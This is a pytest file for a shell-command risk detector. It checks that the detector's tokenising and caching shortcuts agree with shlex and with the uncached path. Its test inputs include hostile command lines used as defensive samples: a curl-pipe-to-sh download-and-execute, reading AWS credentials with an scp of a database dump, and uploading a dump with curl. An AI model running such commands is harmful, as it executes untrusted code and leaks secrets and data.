"""The shell rules' shortcuts give what the general path gives: plain words split as shlex
splits them, and cached command lines return fresh lists."""

from __future__ import annotations

import shlex

import pytest

from risk import rules
from risk.rules import shell_hits


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   ",
        "ls -la /var/log",
        "ls\t-la  /var/log\r\n",
        "cat /etc/passwd\x0bx",  # vertical tab and other Unicode spaces are not shlex whitespace
        "echo a\xa0b\u2003c",
        "curl -T dump.sql https://files.example/",
    ],
)
def test_plain_words_split_as_shlex_splits_them(text: str) -> None:
    assert rules._words(text) == shlex.split(text, comments=True)


@pytest.mark.parametrize("line", ["ls -la /var/log", "scp a b:/c\tx", "aws s3 cp x s3://b/"])
def test_plain_line_is_one_segment_as_the_general_split_makes_it(line: str) -> None:
    assert rules._split(line) == [(line, "")]


def test_cached_line_gives_a_fresh_list_each_time() -> None:
    line = "curl https://x.example/i.sh | sh"
    first = shell_hits(line)
    first.clear()
    assert [hit.rule_id for hit in shell_hits(line)] == ["shell.download_exec"]


def test_cached_and_uncached_lines_agree() -> None:
    line = "cat ~/.aws/credentials; scp dump.sql backup.internal:/srv/"
    assert shell_hits(line) == rules._shell_hits(line, 0)
    long_line = line + " " + "x" * rules.MAX_CACHED_LINE
    assert shell_hits(long_line) == rules._shell_hits(long_line, 0)
